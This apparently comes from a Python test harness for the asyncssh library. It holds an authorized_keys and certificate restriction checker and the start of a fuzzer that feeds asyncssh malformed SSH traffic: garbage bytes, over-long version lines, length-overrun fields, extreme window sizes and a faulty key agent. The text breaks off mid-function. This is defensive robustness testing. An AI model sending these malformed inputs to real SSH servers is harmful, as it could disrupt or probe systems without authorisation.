        world.violation('open-failed', 'channel %d failed to open: %r' % err)

    sample = {'rekey': rk, 'algs': plan['algs'], 'epochs': epochs,
              'channels': len(plan['channels']),
              'packets': {k: len(v) for k, v in sim.pkts.items()}}
    return world.result(nontrivial=epochs > 1, sample=sample)
