"""C05, third population: a real asyncssh client presents one or two
public-key credentials (plain keys or certificates, held locally or by a
key agent) from a drawn source address; the server's authorized_keys text
is generated from a structured entry list.  A reference model over the
structure decides admission and the restriction set; after admission the
client probes pty, command, environment, direct-tcpip and tcpip-forward."""

import asyncssh

from simkit import seams
from simkit.agentstub import StubAgent
from simkit.refssh.certs import build_cert, openssh_line
from simkit.refssh.peer import load_private, public_blob
from simkit.world import RecClient, RecServer, client_opts, server_opts, \
    key, pubkey

USER = 'carol'
USER_KEYS = ['user_ed25519', 'user2_ed25519', 'user_rsa', 'user_ecdsa256']
CA_KEYS = ['ca_ed25519', 'ca_rsa', 'ca_ecdsa256', 'ca2_ed25519']
SRCS = ['10.0.0.5', '10.0.1.7']
FROMS = {
    # name -> (pattern text, set of sources it admits)
    'exact0': ('10.0.0.5', {'10.0.0.5'}),
    'exact1': ('10.0.1.7', {'10.0.1.7'}),
    'wild0': ('10.0.0.*', {'10.0.0.5'}),
    'wildall': ('10.0.*', {'10.0.0.5', '10.0.1.7'}),
    'neg0': ('!10.0.0.5,10.0.*', {'10.0.1.7'}),
    'cidr0': ('10.0.0.0/24', {'10.0.0.5'}),
    'cidr1': ('10.0.1.0/24', {'10.0.1.7'}),
    'cidrall': ('10.0.0.0/16', {'10.0.0.5', '10.0.1.7'}),
    'other': ('192.168.*,*.example.com', set()),
}
CERT_SRC = {
    'cidr0': ('10.0.0.0/24', {'10.0.0.5'}),
    'cidr1': ('10.0.1.0/24', {'10.0.1.7'}),
    'both': ('10.0.0.0/24,10.0.1.7/32', {'10.0.0.5', '10.0.1.7'}),
    'other': ('192.168.0.0/16', set()),
}
AGENT_FAULTS = [None, None, None, 'fail_sign', 'wrong_sig', 'eof_on_sign',
                'eof_on_list', 'garbage_list', 'short_sig']
TCP_PROBES = [('dest', 80), ('other', 81)]


def gen_opts(rng, ca):
    o = {'from': rng.choice([None, None, None] + sorted(FROMS)),
         'command': rng.choice([None, None, 'line-cmd']),
         'no_pty': rng.chance(30), 'no_pf': rng.chance(25),
         'permitopen': rng.chance(30), 'env': rng.chance(25),
         'principals': None}

    if ca and rng.chance(40):
        o['principals'] = rng.choice([['ops'], ['ops', 'dev'], ['carol']])

    return o


def gen_restrict(rng):
    lines = []
    ca_used = set()

    for _ in range(rng.between(1, 4)):
        if rng.chance(35):
            ca = rng.choice(CA_KEYS[:3])

            if ca in ca_used:
                continue

            ca_used.add(ca)
            lines.append({'key': ca, 'ca': True, 'opts': gen_opts(rng, True)})
        else:
            lines.append({'key': rng.choice(USER_KEYS), 'ca': False,
                          'opts': gen_opts(rng, False)})

    creds = []

    for _ in range(rng.between(1, 3)):
        c = {'key': rng.choice(USER_KEYS), 'cert': None,
             'holder': rng.choice(['local', 'local', 'agent'])}

        if rng.chance(45):
            c['cert'] = {
                'ca': rng.choice(CA_KEYS),
                'principals': rng.choice([['carol'], ['ops'], ['dev', 'x'],
                                          ['carol', 'ops'], ['nobody']]),
                'force': rng.choice([None, None, 'cert-cmd']),
                'src': rng.choice([None, None] + sorted(CERT_SRC)),
                'pty': rng.chance(70), 'pf': rng.chance(70),
                'valid': rng.weighted([('ok', 75), ('expired', 12),
                                       ('future', 13)]),
                'host_type': rng.chance(5),
            }

        creds.append(c)

    return {'src': rng.choice(SRCS), 'lines': lines, 'creds': creds,
            'ca_callback': rng.choice([None, None, 'ca_ed25519', 'ca_rsa']),
            'agent_fault': rng.choice(AGENT_FAULTS),
            'client_env': rng.chance(40)}


def valid_restrict(r):
    try:
        if r['src'] not in SRCS or not r['lines'] or not r['creds']:
            return False

        if r['agent_fault'] not in AGENT_FAULTS or \
                r['ca_callback'] not in (None, 'ca_ed25519', 'ca_rsa'):
            return False

        cas = [ln['key'] for ln in r['lines'] if ln['ca']]

        if len(cas) != len(set(cas)):
            return False

        for ln in r['lines']:
            o = ln['opts']

            if ln['key'] not in (CA_KEYS if ln['ca'] else USER_KEYS) or \
                    o['from'] not in [None] + sorted(FROMS) or \
                    set(o) != {'from', 'command', 'no_pty', 'no_pf',
                               'permitopen', 'env', 'principals'}:
                return False

            if o['principals'] is not None and \
                    (not ln['ca'] or not o['principals']):
                return False

        for c in r['creds']:
            if c['key'] not in USER_KEYS or \
                    c['holder'] not in ('local', 'agent'):
                return False

            ct = c['cert']

            if ct is not None and (
                    ct['ca'] not in CA_KEYS or not ct['principals'] or
                    ct['src'] not in [None] + sorted(CERT_SRC) or
                    ct['valid'] not in ('ok', 'expired', 'future')):
                return False

        return True
    except (KeyError, TypeError, IndexError):
        return False


# -- authorized_keys text from the structure -------------------------------------------

def line_text(ln):
    o = ln['opts']
    parts = []

    if ln['ca']:
        parts.append('cert-authority')

    if o['from']:
        parts.append('from="%s"' % FROMS[o['from']][0])

    if o['command']:
        parts.append('command="%s"' % o['command'])

    if o['no_pty']:
        parts.append('no-pty')

    if o['no_pf']:
        parts.append('no-port-forwarding')

    if o['permitopen']:
        parts.append('permitopen="dest:80"')

    if o['env']:
        parts.append('environment="VERIF_ENV=from-line"')

    if o['principals']:
        parts.append('principals="%s"' % ','.join(o['principals']))

    pub = pubkey(ln['key']).export_public_key('openssh').decode().strip()
    return (','.join(parts) + ' ' if parts else '') + pub


# -- reference model --------------------------------------------------------------------

def model_cred(r, c):
    """None if the credential is not valid for USER from r['src'], else the
       restriction set {'pty', 'pf', 'permitopen', 'command', 'env'}"""

    src = r['src']

    def from_ok(o):
        return o['from'] is None or src in FROMS[o['from']][1]

    ct = c['cert']

    if ct is None:
        for ln in r['lines']:
            if not ln['ca'] and ln['key'] == c['key'] and from_ok(ln['opts']):
                o = ln['opts']
                return {'pty': not o['no_pty'], 'pf': not o['no_pf'],
                        'permitopen': o['permitopen'],
                        'command': o['command'], 'env': o['env']}

        return None

    o = None

    for ln in r['lines']:
        if ln['ca'] and ln['key'] == ct['ca'] and from_ok(ln['opts']) and \
                (ln['opts']['principals'] is None or
                 set(ln['opts']['principals']) & set(ct['principals'])):
            o = ln['opts']
            break

    if o is None:
        if r['ca_callback'] != ct['ca']:
            return None

        o = {'no_pty': False, 'no_pf': False, 'permitopen': False,
             'command': None, 'env': False, 'principals': None}

    if ct['host_type'] or ct['valid'] != 'ok':
        return None

    if o['principals'] is None and USER not in ct['principals']:
        return None

    if ct['src'] is not None and src not in CERT_SRC[ct['src']][1]:
        return None

    if ct['force'] and o['command'] and ct['force'] != o['command']:
        # both a certificate force-command and a key command= that differ:
        # OpenSSH refuses the login, asyncssh documents no rule -- the
        # outcome is not decided here
        return 'undecided'

    return {'pty': ct['pty'] and not o['no_pty'],
            'pf': ct['pf'] and not o['no_pf'],
            'permitopen': o['permitopen'],
            'command': ct['force'] or o['command'], 'env': o['env']}


def cert_blob(c):
    ct = c['cert']
    now = int(seams.wall_now())
    after, before = {'ok': (now - 3600, now + 3600),
                     'expired': (now - 7200, now - 3600),
                     'future': (now + 3600, now + 7200)}[ct['valid']]
    critical = []

    if ct['host_type']:
        # a host certificate carries no user options
        return build_cert(load_private(c['key']), load_private(ct['ca']),
                          ctype=2, principals=ct['principals'], after=after,
                          before=before)

    if ct['force']:
        critical.append((b'force-command', ct['force'].encode()))

    if ct['src']:
        critical.append((b'source-address', CERT_SRC[ct['src']][0].encode()))

    ext = []

    if ct['pty']:
        ext.append(b'permit-pty')

    if ct['pf']:
        ext.append(b'permit-port-forwarding')

    return build_cert(load_private(c['key']), load_private(ct['ca']),
                      ctype=2 if ct['host_type'] else 1,
                      principals=ct['principals'], after=after,
                      before=before, critical=critical, extensions=ext)


# -- scripted server application --------------------------------------------------------

class Sess(asyncssh.SSHServerSession):
    def __init__(self, app):
        self.app = app
        self.chan = None
        self.rec = {'pty': False}

    def connection_made(self, chan):
        self.chan = chan
        self.app.sessions.append(self.rec)

    def pty_requested(self, *args):
        self.rec['pty'] = True
        return True

    def exec_requested(self, command):
        self.rec['command'] = command
        self.rec['env'] = dict(self.chan.get_environment())
        return True

    def shell_requested(self):
        self.rec['command'] = None
        return True


class TcpSess(asyncssh.SSHTCPSession):
    pass


class RestrictServer(RecServer):
    def __init__(self, world, plan):
        super().__init__(world)
        self.plan = plan
        self.r = plan['restrict']
        self.sim = world.sim
        self.sessions = []
        self.tcp = []
        self.listens = []
        self.completed_as = None

    async def _delay(self, label):
        for _ in range(1 + self.plan['val_delay']):
            await self.sim.app_event(label)

    def begin_auth(self, username):
        def decide():
            if username == USER:
                text = '\n'.join(line_text(ln) for ln in self.r['lines'])
                self.conn.set_authorized_keys(
                    asyncssh.import_authorized_keys(text + '\n'))

            return True

        if self.plan['async_begin']:
            async def later():
                await self._delay('begin')
                return decide()

            return later()

        return decide()

    def auth_completed(self):
        self.completed_as = self.conn.get_extra_info('username')
        self.world.event(self.name, 'auth_completed', self.completed_as)

    def password_auth_supported(self):
        return False

    def public_key_auth_supported(self):
        return True

    def validate_public_key(self, username, k):
        if self.plan['async_pk']:
            async def later():
                await self._delay('pkval')
                return False

            return later()

        return False

    def validate_ca_key(self, username, k):
        name = self.r['ca_callback']
        ok = username == USER and name is not None and \
            k.public_data == pubkey(name).public_data

        if self.plan['async_pk']:
            async def later():
                await self._delay('caval')
                return ok

            return later()

        return ok

    def session_requested(self):
        return Sess(self)

    def connection_requested(self, dest_host, dest_port, orig_host,
                             orig_port):
        self.tcp.append((dest_host, dest_port))
        return TcpSess()

    def server_requested(self, listen_host, listen_port):
        self.listens.append((listen_host, listen_port))
        return True


class ClientSess(asyncssh.SSHClientSession):
    pass


def run_restrict(world, plan):
    sim = world.sim
    r = plan['restrict']
    app = {}
    res = {'conn': None, 'exc': None, 'probe': {}}

    def sfactory():
        app['o'] = RestrictServer(world, plan)
        return app['o']

    # what the client holds, in the order asyncssh will try: agent first;
    # a locally held (key, certificate) pair is offered with and then
    # without the certificate (documented for client_keys)
    ordered = [c for c in r['creds'] if c['holder'] == 'agent']

    for c in r['creds']:
        if c['holder'] == 'local':
            ordered.append(c)

            if c['cert'] is not None:
                ordered.append({'key': c['key'], 'cert': None,
                                'holder': 'local'})

    fault = r['agent_fault']
    have_agent = any(c['holder'] == 'agent' for c in r['creds'])

    if not have_agent:
        fault = None

    # model: first credential in trial order that is valid and not spoiled
    expect = None
    undecided = False
    spoil_left = fault in ('fail_sign', 'wrong_sig', 'eof_on_sign',
                           'short_sig')

    for c in ordered:
        if c['holder'] == 'agent' and fault in ('eof_on_list',
                                                'garbage_list'):
            continue

        m = model_cred(r, c)

        if m == 'undecided':
            undecided = True
            break

        if m is None:
            continue

        if c['holder'] == 'agent' and spoil_left:
            # the server accepts the query, the agent then fails to produce
            # a valid signature: this attempt fails, later ones proceed
            spoil_left = False

            if c['cert'] is not None and c['key'] == 'user_rsa':
                # asyncssh offers an RSA certificate under two key type
                # names in turn; whether the second offer counts as a new
                # attempt is an implementation choice
                undecided = True
                break

            continue

        expect = m
        break

    async def main():
        acc = await asyncssh.listen('127.0.0.1', 22, server_factory=sfactory,
                                    **server_opts(login_timeout=120))
        agent = None
        local, ids = [], []

        for c in r['creds']:
            if c['cert'] is not None:
                blob = cert_blob(c)
            else:
                blob = public_blob(load_private(c['key']))

            if c['holder'] == 'agent':
                ids.append((load_private(c['key']), blob,
                            c['key'].encode()))
            elif c['cert'] is not None:
                local.append((key(c['key']), asyncssh.import_certificate(
                    openssh_line(blob))))
            else:
                local.append(key(c['key']))

        if have_agent:
            agent = StubAgent(sim, '/agent.sock', ids, fault)
            await agent.start()
            app['agent'] = agent

        opts = client_opts(username=USER,
                           client_keys=local or (() if have_agent else None),
                           local_addr=(r['src'], 0), password=None,
                           agent_path='/agent.sock' if have_agent else None,
                           known_hosts=([pubkey('host_ed25519')], [], []),
                           client_factory=lambda: RecClient(world))

        try:
            conn = res['conn'] = await asyncssh.connect('127.0.0.1', 22,
                                                        **opts)
        except Exception as exc: # pylint: disable=broad-except
            res['exc'] = exc
            conn = None

        if conn is not None:
            p = res['probe']

            # session without a terminal: command and environment
            try:
                # the client may try to set the variable an environment=
                # option sets, and another one
                env = {'VERIF_ENV': 'from-client', 'VERIF_OTHER': 'x'} \
                    if r.get('client_env') else {}
                chan, _ = await conn.create_session(ClientSess, 'real-cmd',
                                                    env=env)
                p['exec'] = True
                chan.close()
                await chan.wait_closed()
            except asyncssh.Error as exc:
                p['exec'] = repr(exc)

            # session with a terminal
            try:
                chan, _ = await conn.create_session(ClientSess, 'real-cmd',
                                                    term_type='xterm')
                p['pty'] = True
                chan.close()
                await chan.wait_closed()
            except asyncssh.Error as exc:
                p['pty'] = repr(exc)

            for dest in TCP_PROBES:
                try:
                    chan, _ = await conn.create_connection(
                        asyncssh.SSHTCPSession, dest[0], dest[1])
                    p['tcp_%s' % dest[0]] = True
                    chan.close()
                    await chan.wait_closed()
                except asyncssh.Error as exc:
                    p['tcp_%s' % dest[0]] = repr(exc)

            try:
                lst = await conn.forward_remote_port('', 8022, 'back', 1)
                p['listen'] = True
                lst.close()
                await lst.wait_closed()
            except (asyncssh.Error, asyncssh.ChannelListenError) as exc:
                p['listen'] = repr(exc)

        await world.gate('done')

        if conn is not None:
            conn.close()
            await conn.wait_closed()

        if agent is not None:
            await agent.stop()

        acc.close()
        await acc.wait_closed()

    world.start(main())
    world.run_phase()
    o = app.get('o')
    sim.probes['pop_restrict'] += 1

    if have_agent:
        sim.probes['agent_used'] += 1

        if app.get('agent') and app['agent'].stats['faults']:
            sim.probes['agent_fault_fired'] += 1

    if any(c['cert'] for c in r['creds']):
        sim.probes['cert_offered'] += 1

    if undecided:
        sim.probes['restrict_undecided'] += 1
    elif expect is None:
        if res['conn'] is not None:
            world.violation('unauthorized-success',
                            'no valid credential among %r from %s, yet the '
                            'client was admitted' % (r['creds'], r['src']),
                            sig='restrict-admitted')
        else:
            sim.probes['honest_rejected'] += 1

            if not isinstance(res['exc'], asyncssh.PermissionDenied):
                world.violation('wrong-error', 'no valid credential: '
                                'expected PermissionDenied, got %r' %
                                (res['exc'],),
                                sig='restrict-' + type(res['exc']).__name__)
    elif res['conn'] is None:
        if sim.main.done() or res['exc'] is not None:
            world.violation('valid-credential-rejected',
                            'client holding a valid credential (%r) was '
                            'not admitted: %r' % (expect, res['exc']),
                            sig='restrict-rejected')
    else:
        sim.probes['honest_admitted'] += 1
        sim.probes['restrictions_checked'] += 1
        p = res['probe']
        bad = []

        if o is None or o.completed_as != USER:
            bad.append('server reports user %r' %
                       (o and o.completed_as,))

        sess = o.sessions if o else []
        want_cmd = expect['command'] or 'real-cmd'

        if p.get('exec') is not True:
            bad.append('plain exec session refused: %r' % (p.get('exec'),))
        elif not sess or sess[0].get('command') != want_cmd:
            bad.append('command seen by the server %r, expected %r' %
                       (sess and sess[0].get('command'), want_cmd))
        else:
            env = sess[0].get('env', {})

            want_env = 'from-line' if expect['env'] else \
                'from-client' if r.get('client_env') else None

            if env.get('VERIF_ENV') != want_env:
                bad.append('environment option: expected VERIF_ENV=%r, '
                           'session environment %r' % (want_env, env))
            elif r.get('client_env') and env.get('VERIF_OTHER') != 'x':
                bad.append('client environment: VERIF_OTHER not set, '
                           'session environment %r' % (env,))
            elif r.get('client_env'):
                sim.probes['client_env_sent'] += 1

        if (p.get('pty') is True) != expect['pty']:
            bad.append('terminal request: allowed=%s, outcome %r' %
                       (expect['pty'], p.get('pty')))
        elif expect['pty'] and not (len(sess) > 1 and sess[1]['pty']):
            bad.append('terminal request granted but the application never '
                       'saw it')
        elif not expect['pty'] and any(s['pty'] for s in sess):
            bad.append('application saw a terminal request that the '
                       'credential forbids')

        for dest in TCP_PROBES:
            allowed = expect['pf'] and (not expect['permitopen'] or
                                        dest == ('dest', 80))
            got = p.get('tcp_%s' % dest[0])

            if (got is True) != allowed:
                bad.append('direct-tcpip to %s:%d: allowed=%s, outcome %r' %
                           (dest[0], dest[1], allowed, got))

            if not allowed and o and dest in o.tcp:
                bad.append('application was asked about forbidden '
                           'destination %r' % (dest,))

        if (p.get('listen') is True) != expect['pf']:
            bad.append('tcpip-forward: allowed=%s, outcome %r' %
                       (expect['pf'], p.get('listen')))

        if expect['command']:
            sim.probes['forced_command'] += 1

        if not expect['pf'] or expect['permitopen']:
            sim.probes['forwarding_restricted'] += 1

        for b in bad:
            world.violation('restriction-mismatch', '%s (restrictions %r, '
                            'plan %r)' % (b, expect, r),
                            sig='restrict-' + b.split(':')[0].split(' ')[0])

    world.open_gate('done')
    world.run_phase()
    world.check_loop_health(loop_errors=False, internal_errors=True)
    return world.result(nontrivial=True,
                        sample={'restrict': r, 'admitted':
                                res['conn'] is not None,
                                'probe': res['probe']})
