"""C10 -- hostile input costs bounded work and fails cleanly."""

import asyncio

import asyncssh

from simkit.refssh.peer import RefPeer, PeerError, Closed, load_private
from simkit.sshwire import Reader, Short, string, u32, boolean, namelist, \
    mpint
from simkit.world import World, RecClient, RecServer, client_opts, \
    server_opts, key, pubkey
from simkit.tape import Rng
from simkit import seams

ID = 'C10'
NAME = 'hostile_input'
QUICK_S = 45
THOROUGH_S = 900
CHUNK = 40

RULE = ('asyncssh in either role faces (a) a byte-level hostile peer: drawn '
        'sequences of garbage, NULs, banner lines (few/many/over-long), '
        'over-long version lines, a valid version followed by cleartext '
        'packets with arbitrary length/padding fields, early close; (b) '
        'RefPeer holding the keys, before or after authentication, sending '
        'drawn messages of any type 0..255 built from per-type templates '
        'whose numeric fields are replaced by 0, 1, 2^31, 2^32-1, whose '
        'string lengths overrun the packet, truncated or extended; in '
        'particular channel open / open confirmation with window or maximum '
        'packet size 0, 1, 2^32-1 followed by application writes, window '
        'adjust overflow, data on unknown channels. Oracle: no callback emits '
        'more than 3000 + 4 x (bytes the application wrote) packets (deterministic spin detection), total output '
        '<= 16*input + 64 KiB, the run reaches quiescence within the step '
        'cap, no exception reaches the loop handler from a callback or task, '
        'the owner sees connection_lost at most once and if the connection '
        'ended it got an exception (or connect() raised one), nothing hangs. '
        'Non-trivial = hostile bytes were delivered; distinct = (plan, '
        'schedule, trace) signature.')

ASSUMPTIONS = [
    'simulated event loop admits exactly asyncio-legal executions',
    'work is measured in packets/bytes emitted and loop steps, not CPU '
    'seconds or memory',
    'the offline parsers named in the statement (private-key import, DER, '
    'sshsig files) have no peer, schedule or fault: not decided by this '
    'technique; parsers reachable from a peer (packets, key blobs in '
    'USERAUTH/hostkeys requests, SFTP via C14) are fed through those paths',
]

REAL = ['asyncssh endpoint (client or server role): connection, packet, '
        'channel, auth, public_key decoding', 'PyCA']
STUB = ['event loop + clock', 'TCP', 'executor', 'OS randomness',
        'byte-level hostile peer', 'RefPeer as keyed hostile peer']
PROBES = ['mode_agent', 'agent_client_admitted', 'mode_bytes', 'mode_keyed', 'role_server', 'role_client',
          'extreme_pktsize', 'extreme_window', 'conn_ended_with_error',
          'conn_survived', 'preauth_hostile', 'postauth_hostile',
          'version_line_attack', 'banner_attack', 'binary_garbage',
          'legal_request_burst']

EXTREMES = [0, 1, 2, 0x7fffffff, 0x80000000, 0xffffffff]

# -- field templates ----------------------------------------------------------------

AGENT_SHAPES = ['ok', 'ok', 'failure', 'wrong_type', 'empty_frame',
                'huge_count', 'truncated', 'huge_frame', 'garbage', 'close',
                'extra_bytes', 'zero_len_fields', 'two_replies']

KEXINIT_LISTS = [b'curve25519-sha256', b'ssh-ed25519', b'aes128-ctr',
                 b'aes128-ctr', b'hmac-sha2-256', b'hmac-sha2-256', b'none',
                 b'none', b'', b'']

def templates(sender, chan_them, chan_ours):
    """Message templates a hostile `sender` may use.  chan_them = channel id
       on the asyncssh side (recipient field), chan_ours = our own id."""

    U, S, B = 'u32', 'str', 'bool'
    common = [
        (1, [(U, 2), (S, b'bye'), (S, b'')]),
        (2, [(S, b'x' * 10)]),
        (3, [(U, 3)]),
        (4, [(B, 1), (S, b'dbg'), (S, b'')]),
        (7, [(U, 2), (S, b'server-sig-algs'), (S, b'ssh-ed25519'),
             (S, b'x'), (S, b'y')]),
        (80, [(S, b'keepalive@openssh.com'), (B, 1)]),
        (80, [(S, b'tcpip-forward'), (B, 1), (S, b'127.0.0.1'), (U, 8022)]),
        (80, [(S, b'cancel-tcpip-forward'), (B, 1), (S, b'h'), (U, 1)]),
        (80, [(S, b'hostkeys-00@openssh.com'), (B, 0),
              (S, string(b'ssh-ed25519') + string(b'k' * 32)),
              (S, string(b'ssh-rsa') + mpint(65537) + mpint(1 << 2047)),
              (S, b'junk')]),
        (81, [(U, 9)]), (82, []),
        (93, [(U, chan_them), (U, 1000)]),
        (94, [(U, chan_them), (S, b'd' * 20)]),
        (95, [(U, chan_them), (U, 1), (S, b'e' * 20)]),
        (96, [(U, chan_them)]), (97, [(U, chan_them)]),
        (98, [(U, chan_them), (S, b'exit-status'), (B, 0), (U, 3)]),
        (98, [(U, chan_them), (S, b'exit-signal'), (B, 0), (S, b'KILL'),
              (B, 1), (S, b'msg'), (S, b'')]),
        (98, [(U, chan_them), (S, b'window-change'), (B, 0), (U, 80), (U, 24),
              (U, 0), (U, 0)]),
        (98, [(U, chan_them), (S, b'pty-req'), (B, 1), (S, b'xterm'), (U, 80),
              (U, 24), (U, 0), (U, 0),
              (S, b'\x01\x00\x00\x00\x03\x80\x00\x00\x96\x00\x00')]),
        (98, [(U, chan_them), (S, b'env'), (B, 1), (S, b'A'), (S, b'B')]),
        (98, [(U, chan_them), (S, b'signal'), (B, 0), (S, b'INT')]),
        (98, [(U, chan_them), (S, b'break'), (B, 1), (U, 0xffffffff)]),
        (98, [(U, chan_them), (S, b'xon-xoff'), (B, 0), (B, 1)]),
        (98, [(U, chan_them), (S, b'keepalive@openssh.com'), (B, 1)]),
        (99, [(U, chan_them)]), (100, [(U, chan_them)]),
        (91, [(U, chan_them), (U, chan_ours), (U, 1 << 20), (U, 32768)]),
        (92, [(U, chan_them), (U, 2), (S, b'no'), (S, b'')]),
        # a re-key request: every name-list is a string field of its own
        (20, [('raw', b'C' * 16)] + [(S, v) for v in KEXINIT_LISTS] +
         [(B, 0), (U, 0)]),
        (20, [('raw', b'C' * 16)] + [(S, v) for v in KEXINIT_LISTS] +
         [(B, 0), (U, 0)]),
        (21, []),
        (30, [(S, b'e' * 32)]),
        (31, [(S, string(b'ssh-ed25519') + string(b'k' * 32)),
              (S, b'f' * 32),
              (S, string(b'ssh-ed25519') + string(b's' * 64))]),
        (34, [(U, 1024), (U, 2048), (U, 8192)]),
    ]

    if sender == 'client':
        common += [
            (5, [(S, b'ssh-userauth')]),
            (50, [(S, b'alice'), (S, b'ssh-connection'), (S, b'password'),
                  (B, 0), (S, b'pw')]),
            (50, [(S, b'alice'), (S, b'ssh-connection'), (S, b'publickey'),
                  (B, 1), (S, b'ssh-ed25519'),
                  (S, string(b'ssh-ed25519') + string(b'k' * 32)),
                  (S, string(b'ssh-ed25519') + string(b's' * 64))]),
            (50, [(S, b'alice'), (S, b'ssh-connection'), (S, b'publickey'),
                  (B, 0), (S, b'ecdsa-sha2-nistp256'),
                  (S, string(b'ecdsa-sha2-nistp256') + string(b'nistp256') +
                   string(b'\x04' + b'p' * 64))]),
            (50, [(S, b'alice'), (S, b'ssh-connection'),
                  (S, b'keyboard-interactive'), (S, b''), (S, b'')]),
            (61, [(U, 3), (S, b'a'), (S, b'b'), (S, b'c')]),
            (90, [(S, b'session'), (U, chan_ours), (U, 1 << 20), (U, 32768)]),
            (90, [(S, b'direct-tcpip'), (U, chan_ours), (U, 1 << 20),
                  (U, 32768), (S, b'dest'), (U, 80), (S, b'o'), (U, 1)]),
            (90, [(S, b'direct-streamlocal@openssh.com'), (U, chan_ours),
                  (U, 1 << 20), (U, 32768), (S, b'/tmp/x'), (S, b''),
                  (U, 0)]),
            (98, [(U, chan_them), (S, b'exec'), (B, 1), (S, b'cmd')]),
            (98, [(U, chan_them), (S, b'subsystem'), (B, 1), (S, b'sftp')]),
            (98, [(U, chan_them), (S, b'x11-req'), (B, 1), (B, 0),
                  (S, b'MIT-MAGIC-COOKIE-1'), (S, b'00' * 16), (U, 0)]),
            (98, [(U, chan_them), (S, b'auth-agent-req@openssh.com'),
                  (B, 1)]),
        ]
    else:
        common += [
            (6, [(S, b'ssh-userauth')]),
            (51, [('names', [b'password', b'publickey']), (B, 0)]),
            (52, []), (53, [(S, b'banner\n'), (S, b'')]),
            (60, [(S, b'ssh-ed25519'),
                  (S, string(b'ssh-ed25519') + string(b'k' * 32))]),
            (60, [(S, b'name'), (S, b'instr'), (S, b''), (U, 2),
                  (S, b'p1'), (B, 0), (S, b'p2'), (B, 1)]),
            (90, [(S, b'forwarded-tcpip'), (U, chan_ours), (U, 1 << 20),
                  (U, 32768), (S, b'h'), (U, 1), (S, b'o'), (U, 2)]),
            (90, [(S, b'x11'), (U, chan_ours), (U, 1 << 20), (U, 32768),
                  (S, b'o'), (U, 2)]),
            (90, [(S, b'auth-agent@openssh.com'), (U, chan_ours),
                  (U, 1 << 20), (U, 32768)]),
            (90, [(S, b'session'), (U, chan_ours), (U, 1 << 20), (U, 32768)]),
        ]

    return common


def render(fields, muts, rng):
    out = b''

    for i, (kind, val) in enumerate(fields):
        mut = muts.get(str(i))

        if kind == 'u32':
            if mut is not None:
                val = EXTREMES[mut % len(EXTREMES)]

            out += u32(val)
        elif kind == 'str':
            if mut is None:
                out += string(val)
            elif mut % 4 == 0:
                out += u32(EXTREMES[2 + mut % 4]) + val   # length overrun
            elif mut % 4 == 1:
                out += string(b'')
            elif mut % 4 == 2:
                out += string(val * (1 + mut % 50))
            else:
                out += string(rng.bytes(len(val) + 1))
        elif kind == 'bool':
            out += bytes([val if mut is None else (mut % 256)])
        elif kind == 'names':
            out += namelist(val)
        elif kind == 'raw':
            out += val

    return out


def gen_plan(rng):
    role = rng.choice(['server', 'client'])
    mode = rng.weighted([('bytes', 33), ('keyed', 60), ('agent', 7)])

    if mode == 'agent':
        # a hostile key agent answers the client's agent requests
        return {
            'drbg': rng.below(1 << 30),
            'profile': {'p_sched': rng.choice([0, 20, 70]),
                        'p_chunk': rng.choice([10, 60]),
                        'latency_ms': 0, 'capacity': 0,
                        'max_iterations': 6000},
            'role': 'client', 'mode': 'agent',
            'list_reply': rng.choice(AGENT_SHAPES),
            'sign_reply': rng.choice(AGENT_SHAPES),
            'rnd': rng.below(1 << 30),
        }
    plan = {
        'drbg': rng.below(1 << 30),
        'profile': {'p_sched': rng.choice([0, 20, 70]),
                    'p_chunk': rng.choice([10, 60]),
                    'latency_ms': 0, 'capacity': 0,
                    'max_iterations': 6000},
        'role': role, 'mode': mode,
    }

    if mode == 'bytes':
        ops = []

        for _ in range(rng.between(1, 8)):
            k = rng.weighted([('version_ok', 20), ('garbage', 15),
                              ('line', 15), ('lines', 10), ('nul', 5),
                              ('hugever', 8), ('pkt', 25), ('close', 5),
                              ('kexinit', 20)])

            if k == 'garbage':
                ops.append([k, rng.choice([1, 7, 100, 5000, 70000])])
            elif k == 'line':
                ops.append([k, rng.choice([0, 1, 80, 255, 256, 1000, 9000])])
            elif k == 'lines':
                ops.append([k, rng.choice([5, 100, 1100, 3000]),
                            rng.choice([0, 10, 200])])
            elif k == 'nul':
                ops.append([k, rng.choice([1, 300])])
            elif k == 'hugever':
                ops.append([k, rng.choice([200, 255, 256, 300, 100000])])
            elif k == 'kexinit':
                # [which name-list (10 = none), how it is spoiled, seed]
                ops.append([k, rng.below(11), rng.below(6),
                            rng.below(1 << 16)])
            elif k == 'pkt':
                ops.append([k, rng.choice(EXTREMES + [5, 12, 28, 35000,
                                                       262144]),
                            rng.choice([0, 3, 4, 255]),
                            rng.choice([0, 1, 20, 3000])])
            else:
                ops.append([k])

        plan['ops'] = ops
        return plan

    plan['auth_first'] = rng.chance(70)
    plan['version'] = rng.choice(['SSH-2.0-RefPeer_1.0', 'SSH-2.0-dropbear_x',
                                  'SSH-2.0-RefPeer_1.0'])
    plan['cmp'] = rng.choice(['none', 'none', 'zlib@openssh.com', 'zlib'])
    plan['open'] = {'window': rng.choice(EXTREMES + [1 << 20, 100]),
                    'maxpkt': rng.choice(EXTREMES + [32768, 100])} \
        if rng.chance(50) else {'window': 1 << 20, 'maxpkt': 32768}
    plan['app_write'] = rng.choice([0, 1, 5000])
    msgs = []

    for _ in range(rng.between(0, 6)):
        tmpl = rng.below(1 << 16)
        muts = {}

        for _m in range(rng.weighted([(0, 2), (1, 5), (2, 2)])):
            muts[str(rng.below(rng.choice([8, 8, 14])))] = rng.below(1 << 16)

        msgs.append({'tmpl': tmpl, 'muts': muts,
                     'shape': rng.weighted([('asis', 6), ('truncate', 2),
                                            ('extend', 1), ('rawtype', 2)]),
                     'rnd': rng.below(1 << 30),
                     'chan': rng.choice(['valid', 'valid', 'unknown',
                                         'max'])})

    plan['msgs'] = msgs

    if role == 'server' and rng.chance(12):
        # a burst of channel requests that are all legal, sent back to back
        # on the open session and followed by the channel's close: requests
        # the server answers asynchronously (agent and X11 forwarding) with
        # others queued behind them, and the channel gone before they are
        # through
        plan['auth_first'] = True
        plan['open'] = {'window': 1 << 20, 'maxpkt': 32768}
        plan['msgs'] = []
        burst = [rng.choice(['agent', 'x11'])]

        for _ in range(rng.between(1, 4)):
            burst.append(rng.choice(['window-change', 'signal', 'break',
                                     'env', 'pty-req', 'agent', 'x11',
                                     'keepalive']))

        burst.append(rng.choice(['close', 'close', 'eof', 'none']))
        plan['legal_burst'] = burst

    return plan


def valid_plan(plan):
    try:
        if plan['role'] not in ('server', 'client') or \
                plan['mode'] not in ('bytes', 'keyed', 'agent'):
            return False

        if plan['mode'] == 'agent':
            return plan['role'] == 'client' and \
